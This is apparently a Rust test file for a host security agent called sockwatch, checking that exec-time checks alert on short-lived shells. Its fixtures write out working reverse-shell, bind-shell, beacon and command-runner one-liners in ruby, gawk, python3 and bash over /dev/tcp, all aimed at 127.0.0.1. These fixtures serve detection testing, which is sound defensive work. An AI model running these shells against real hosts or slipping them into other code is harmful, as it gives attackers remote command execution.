//! `[agent] exec_checks`: with the kernel's process connector each process that executes is
//! looked at within moments, so shells that live between two scans are alerted: command runners
//! that run `sh -c` per line they receive, a one-shot reverse shell, a beacon. Under
//! `--interval 5s` the poll is not what catches them (`opened_by` says which did). Without
//! CAP_NET_ADMIN, or inside a pid namespace the connector does not answer, the agent says so
//! and keeps scanning on the interval.

use crate::agent::Agent;
use crate::shells::{Case, Far, check, is_incident_for};
use crate::util::{ScratchDir, bash_reverse_shell, prerequisites};
use serde_json::Value;

fn action(e: &Value) -> &str {
    e["event"]["action"].as_str().unwrap_or("")
}

const RUNNER: &str = "shell-output-relayed-to-ancestor-connection";

/// What the far end makes a command runner run: reconnaissance, as a runner's operator sends
/// (`uname`, then a pause as `ps` or `netstat` would take). A `sh -c` running only builtins can
/// exit within a millisecond of its exec, before it is read: bench/exec_checks.py measures the
/// share of those seen, and the README states it.
const RECON: Option<&str> = Some("uname -a; sleep 0.1; echo SOCKW\"\"ATCH-READY");

/// Shells that live milliseconds: each is proven by a command round trip, then must be one
/// incident opened by an exec check, with the rules listed.
const SHORT_LIVED: &[Case] = &[
    Case {
        subject: &["dash", "sh"],
        rules: &[RUNNER],
        send: RECON,
        relay: Some("ruby"),
        ..Case::new(
            "ruby IO.popen runner",
            Far::Tcp,
            r#"exec ruby -rsocket -e 's = TCPSocket.new("127.0.0.1", PORT); while l = s.gets; s.write(IO.popen(l).read); s.flush; end'"#,
        )
    },
    Case {
        subject: &["dash", "sh"],
        rules: &[RUNNER],
        send: RECON,
        relay: Some("gawk"),
        ..Case::new(
            "gawk |& coprocess runner",
            Far::Tcp,
            r#"exec gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/PORT"; while ((s |& getline c) > 0) { print c |& "sh"; close("sh", "to"); while (("sh" |& getline l) > 0) print l |& s; close("sh") } }'"#,
        )
    },
    Case {
        subject: &["dash", "sh"],
        rules: &[RUNNER],
        send: RECON,
        relay: Some("python"),
        ..Case::new(
            "python3 bind-mode runner",
            Far::Bind,
            "exec /usr/bin/python3 -c 'import socket, subprocess
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((\"127.0.0.1\", PORT)); s.listen(1); c, _ = s.accept(); f = c.makefile(\"rb\")
for line in f:
    c.sendall(subprocess.run(line, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout)'",
        )
    },
    Case {
        subject: &["bash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        ..Case::new(
            "one-shot bash -i over /dev/tcp, gone after 300 ms",
            Far::Tcp,
            "(sleep 0.3; kill -9 $$) & exec bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
        )
    },
    Case {
        subject: &["dash", "sh"],
        rules: &[RUNNER],
        send: RECON,
        relay: Some("python"),
        ..Case::new(
            "beacon: connect, run one command, close, every 2 s",
            Far::Tcp,
            "exec /usr/bin/python3 -c 'import socket, subprocess, time
while True:
    s = socket.create_connection((\"127.0.0.1\", PORT)); command = s.recv(4096)
    s.sendall(subprocess.run(command, shell=True, stdout=subprocess.PIPE).stdout); s.close()
    time.sleep(2)'",
        )
    },
];

#[test]
fn shells_living_between_scans_are_alerted_by_exec_checks() {
    if !prerequisites(&["ruby", "gawk", "bash"]) {
        return;
    }
    let agent = Agent::start(&["--interval", "5s", "--heartbeat", "100ms"]);
    // The first scan's baseline is out: from now on a scan comes every 5 s, and looks have a
    // scan's neighbourhood to resolve sockets against.
    agent.wait_for("the first scan's baseline", |e| action(e) == "baseline_summary");
    let mut failures = Vec::new();
    for case in SHORT_LIVED {
        match check(&agent, case) {
            Ok(opened) if opened["sockwatch"]["incident"]["opened_by"] != "exec_check" => {
                let by = &opened["sockwatch"]["incident"]["opened_by"];
                failures.push(format!("{}: opened by {by}, not an exec check", case.name));
            }
            Ok(_) => {}
            Err(why) => failures.push(format!("{}: {why}", case.name)),
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} missed:\n{}",
        failures.len(),
        SHORT_LIVED.len(),
        failures.join("\n")
    );
    let beat = agent.wait_for("a heartbeat counting looks", |e| {
        action(e) == "heartbeat" && e["sockwatch"]["exec_checks"]["looks"].as_u64() > Some(0)
    });
    assert!(beat["sockwatch"]["exec_checks"]["look_us"].as_u64() > Some(0), "{beat}");
    assert!(!agent.events().iter().any(|e| action(e).starts_with("exec_checks_")));
    let (status, _, _) = agent.stop();
    assert!(status.success());
}

/// The agent with exec checks set in a config file (as the packaged one does), its state in
/// `dir`, started through `wrapper` (none, or a command that execs the rest) with `extra`.
fn start_with_checks(dir: &ScratchDir, wrapper: &[&str], extra: &[&str]) -> Agent {
    let config = dir.path.join("sockwatch.toml");
    std::fs::write(&config, "[agent]\nexec_checks = true\n").unwrap();
    let mut args = vec!["--config", config.to_str().unwrap()];
    args.extend_from_slice(extra);
    Agent::start_through(wrapper, &dir.path.join("state"), &args)
}

#[test]
fn a_long_lived_shell_is_alerted_by_the_look_its_exec_brings_not_the_next_tick() {
    if !prerequisites(&["bash"]) {
        return;
    }
    let dir = ScratchDir::new("exec-checks");
    let agent = start_with_checks(&dir, &[], &["--interval", "1h", "--heartbeat", "50ms"]);
    // The baseline comes out of the first scan: after it only a look can see anything within
    // the hour.
    agent.wait_for("the first scan's baseline", |e| action(e) == "baseline_summary");
    let (_shell, _peer, port) = bash_reverse_shell();
    let alert = agent.wait_for("incident_opened from a look", |e| {
        action(e) == "incident_opened" && is_incident_for(e, port)
    });
    assert_eq!(alert["process"]["executable"], "/usr/bin/bash", "{alert}");
    assert_eq!(alert["sockwatch"]["incident"]["opened_by"], "exec_check", "{alert}");
    assert!(!agent.events().iter().any(|e| action(e).starts_with("exec_checks_")));
    let (status, _, _) = agent.stop();
    assert!(status.success());
}

#[test]
fn without_cap_net_admin_exec_checks_are_reported_unavailable_and_the_interval_still_scans() {
    if !prerequisites(&["setpriv", "bash"]) {
        return;
    }
    let dir = ScratchDir::new("exec-checks-no-cap");
    // Root, less CAP_NET_ADMIN: everything else the agent uses is still there.
    let wrapper = ["setpriv", "--bounding-set=-net_admin", "--inh-caps=-net_admin"];
    let agent = start_with_checks(&dir, &wrapper, &[]);
    let unavailable =
        agent.wait_for("exec_checks_unavailable", |e| action(e) == "exec_checks_unavailable");
    let details = unavailable["sockwatch"].to_string();
    assert!(details.contains("Operation not permitted"), "{details}");
    assert!(details.contains("CAP_NET_ADMIN"), "{details}");
    let (_shell, _peer, port) = bash_reverse_shell();
    let alert = agent.wait_for("incident_opened from the interval's scans", |e| {
        action(e) == "incident_opened" && is_incident_for(e, port)
    });
    assert_eq!(alert["sockwatch"]["incident"]["opened_by"], "scan", "{alert}");
    let (status, _, _) = agent.stop();
    assert!(status.success());
}

#[test]
fn in_a_pid_namespace_the_unanswered_subscription_is_reported_and_scanning_goes_on() {
    if !prerequisites(&["unshare"]) {
        return;
    }
    let dir = ScratchDir::new("exec-checks-pidns");
    let wrapper = ["unshare", "--pid", "--fork", "--kill-child", "--mount-proc"];
    let agent = start_with_checks(&dir, &wrapper, &["--heartbeat", "1s"]);
    let unavailable =
        agent.wait_for("exec_checks_unavailable", |e| action(e) == "exec_checks_unavailable");
    assert!(unavailable["sockwatch"]["error"].to_string().contains("did not answer"));
    let scans_then = agent
        .events()
        .iter()
        .filter(|e| action(e) == "heartbeat")
        .filter_map(|e| e["sockwatch"]["scans"].as_u64())
        .max()
        .unwrap_or(0);
    agent.wait_for("scans after the notice", |e| {
        action(e) == "heartbeat" && e["sockwatch"]["scans"].as_u64() > Some(scans_then)
    });
}
